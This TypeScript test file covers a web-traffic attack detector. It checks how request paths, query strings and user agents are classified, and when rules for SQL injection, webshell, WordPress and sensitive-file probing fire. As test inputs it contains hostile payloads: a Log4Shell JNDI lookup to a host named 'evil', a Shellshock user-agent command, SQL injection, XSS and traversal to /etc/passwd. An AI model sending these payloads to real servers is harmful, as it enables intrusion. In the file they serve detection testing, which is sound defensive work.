import { describe, expect, test } from 'vitest';
import {
  classifyPath,
  classifyQuery,
  classifyUserAgent,
  F_ADMIN,
  F_CVE,
  F_PROXY,
  F_SENSITIVE,
  F_SQLI,
  F_TECH,
  F_TRAVERSAL,
  F_W00T,
  F_WEBSHELL,
  F_WP,
  F_WP_AUTHOR,
  F_XSS,
  F_BAD_UA,
  percentDecode,
} from '@core/detect/content/classify';
import { alertsOf, req, rulesOf, run } from './helpers';

describe('content classification', () => {
  test.each([
    ['/.env', F_SENSITIVE],
    ['/.git/HEAD', F_SENSITIVE],
    ['/backup.zip', F_SENSITIVE],
    ['/wp-config.php.bak', F_SENSITIVE | F_WP],
    ['/%2fetc%2fpasswd', F_TRAVERSAL],
    ['/%252E%252E%252Ffoo', F_TRAVERSAL],
    ['/static/..%2f..%2fwin.ini', F_TRAVERSAL],
    ['/c99.php', F_WEBSHELL],
    ['/uploads/Worse_Linux_Shell.php', F_WEBSHELL],
    ['/phpmyadmin2017/index.php', F_ADMIN],
    ['/+CSCOE+/logon.html', F_ADMIN],
    ['/_ignition/execute-solution', F_CVE],
    ['/crx/packmgr/service.jsp', F_TECH],
    ['/w00tw00t.at.ISC.SANS.DFind:)', F_W00T],
    ['http://proxy.example:80/ip.php', F_PROXY],
    ['/wp-content/plugins/x/readme.txt', F_WP],
  ])('%s', (path, flags) => {
    expect(classifyPath(path)).toBe(flags);
  });

  test.each(['/', '/api/v1/users/{id}', '/.well-known/acme-challenge/x', '/static/app.js', '/admin-guide.html', '/docs/shell-scripting', '/index.php'])(
    'benign path %s has no flags',
    (path) => {
      expect(classifyPath(path)).toBe(0);
    },
  );

  test.each([
    ['id=1%27%20OR%201=1--', F_SQLI],
    ['a=%20union%20all%20select%20', F_SQLI],
    ['a=information_schema.tables', F_SQLI],
    ['a=%2cnull%2cnull', F_SQLI],
    ['q=%3Cscript%3Ealert(1)%3C/script%3E', F_XSS],
    ['a=javascript%3A', F_XSS],
    ['file=../../etc/passwd', F_TRAVERSAL],
    ['x=${jndi:ldap://evil/a}', F_CVE],
    ['author=2', F_WP_AUTHOR],
  ])('query %s', (q, flags) => {
    expect(classifyQuery(q) & flags).toBe(flags);
  });

  test.each(['page=2&limit=20', 'q=red%20dress&sort=price', 'q=black+and+white', "filter=tolower(name)%20eq%20'x'".replace("'x'", 'x'), 'ts=2024-05-01T10:00:00Z', 'redirect_uri=https%3A%2F%2Fapp.example%2Fcb'])(
    'benign query %s has no attack flags',
    (q) => {
      expect(classifyQuery(q) & (F_SQLI | F_XSS | F_TRAVERSAL | F_CVE)).toBe(0);
    },
  );

  test('offensive tools are bad user agents, ordinary clients are not', () => {
    expect(classifyUserAgent('Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)')).toBe(F_BAD_UA);
    expect(classifyUserAgent('sqlmap/1.7#stable (https://sqlmap.org)')).toBe(F_BAD_UA);
    expect(classifyUserAgent('() { :; }; /bin/bash -c id')).toBe(F_CVE);
    for (const ua of ['curl/8.5.0', 'python-requests/2.31', 'Go-http-client/1.1', 'okhttp/4.12.0', 'Mozilla/5.0 Firefox/126.0']) {
      expect(classifyUserAgent(ua)).toBe(0);
    }
  });

  test('percent decoding is tolerant', () => {
    expect(percentDecode('%2e%2E%zz%', false)).toBe('..%zz%');
    expect(percentDecode('a+b', true)).toBe('a b');
  });
});

describe('content rules in the detector', () => {
  test('a single webshell, CVE, w00tw00t, proxy or bad-version request alerts', () => {
    expect(rulesOf(run([req(0, { path: '/s72_Shell.php', status: 404 })]))).toEqual(['webshell-probe']);
    expect(rulesOf(run([req(0, { path: '/setup.cgi', status: 404 })]))).toEqual(['cve-probe']);
    expect(rulesOf(run([req(0, { path: '/w00tw00t.at.ISC.SANS.DFind', status: 404 })]))).toEqual(['w00tw00t']);
    expect(rulesOf(run([req(0, { method: 'CONNECT', path: 'mail.example:25', status: 400 })]))).toEqual(['open-proxy']);
    expect(rulesOf(run([req(0, { path: '/', protocol: 'HTTP/1.2', status: 400 })]))).toEqual(['invalid-http-version']);
    expect(rulesOf(run([req(0, { userAgent: 'sqlmap/1.8' })]))).toEqual(['bad-user-agent']);
  });

  test('probing rules need several hits: two SQLi probes do not alert, three do', () => {
    const probe = (i: number) => req(i * 5_000, { path: '/search', query: `q=1%27%20or%201=1--${i}` });
    expect(alertsOf(run([probe(0), probe(1)]))).toEqual([]);
    const [a] = alertsOf(run([probe(0), probe(1), probe(2)]), 'sqli-probing');
    expect(a!.reason).toMatch(/^3 SQL injection probe requests in 1 min from 203\.0\.113\.7 \(threshold 3\), e\.g\. \/search\?q=/);
  });

  test('admin and technology probes only count when the server refuses (a real admin gets 200)', () => {
    const admin = ['/administrator/', '/phpmyadmin/', '/admin/'];
    expect(alertsOf(run(admin.map((p, i) => req(i * 1_000, { path: p, status: 200 }))))).toEqual([]);
    expect(rulesOf(run(admin.map((p, i) => req(i * 1_000, { path: p, status: 404 }))))).toEqual(['admin-probe']);
    expect(alertsOf(run([req(0, { path: '/crx/packmgr/service.jsp', status: 200 })]))).toEqual([]);
  });

  test('WordPress: scans, login brute force and user enumeration', () => {
    const scan = ['/wp-content/plugins/a/x.php', '/wp-content/plugins/b/y.php', '/wp-includes/z.php', '/blog/wp-admin/admin-ajax.php'];
    expect(rulesOf(run(scan.map((p, i) => req(i * 1_000, { path: p, status: 404 }))))).toEqual(['wordpress-scan']);
    const bf = Array.from({ length: 6 }, (_, i) => req(i * 2_000, { method: 'POST', path: '/wp-login.php', status: 200 }));
    expect(rulesOf(run(bf))).toEqual(['wordpress-bruteforce']);
    const same = Array.from({ length: 8 }, (_, i) => req(i * 1_000, { path: '/', query: 'author=1' }));
    expect(alertsOf(run(same))).toEqual([]);
    const walk = Array.from({ length: 5 }, (_, i) => req(i * 1_000, { path: '/', query: `author=${i + 1}` }));
    expect(rulesOf(run(walk))).toEqual(['wordpress-user-enum']);
  });

  test('three sensitive-file probes in a minute alert; one does not', () => {
    expect(alertsOf(run([req(0, { path: '/.env', status: 404 })]))).toEqual([]);
    const probes = ['/.env', '/.git/config', '/.htpasswd'].map((p, i) => req(i * 10_000, { path: p, status: 404 }));
    expect(rulesOf(run(probes))).toEqual(['sensitive-files']);
  });
});
